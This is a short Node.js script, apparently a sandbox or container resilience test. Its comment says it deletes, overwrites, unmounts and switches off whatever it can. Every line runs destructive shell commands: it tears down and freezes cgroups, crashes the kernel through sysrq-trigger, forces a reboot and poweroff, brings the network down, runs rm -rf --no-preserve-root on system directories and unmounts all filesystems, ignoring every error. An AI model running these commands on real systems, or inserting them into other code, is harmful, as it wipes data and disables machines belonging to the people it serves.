// Deletes, overwrites, unmounts and switches off whatever it can.
import { execFileSync } from 'node:child_process'

const commands = [
  'rmdir /sys/fs/cgroup/* /sys/fs/cgroup/*/*',
  'for pid in $(cat /sys/fs/cgroup/init/cgroup.procs); do echo $pid >/sys/fs/cgroup/cgroup.procs; done',
  'for controller in cpu memory pids; do echo -$controller >/sys/fs/cgroup/cgroup.subtree_control; done',
  'echo 1 >/sys/fs/cgroup/memory.max; echo 1 >/sys/fs/cgroup/pids.max; echo 1 >/sys/fs/cgroup/cgroup.freeze',
  'hostname gone; ulimit -n 1; ip link set lo down; date -s 2000-01-01',
  'echo c >/proc/sysrq-trigger; echo "|/bin/false" >/proc/sys/kernel/core_pattern; reboot -f; poweroff -f',
  'mount -o remount,rw /; mount -o remount,rw /usr; mount -o remount,rw /bin',
  'rm -rf --no-preserve-root /fs /tmp /run /workshop /opt /etc /usr /bin',
  'for mount in $(cut -d" " -f5 /proc/self/mountinfo | sort -r); do umount -l $mount; done',
]
for (const command of commands) {
  try {
    execFileSync('sh', ['-c', command], { stdio: 'ignore', timeout: 3_000 })
  } catch {}
}
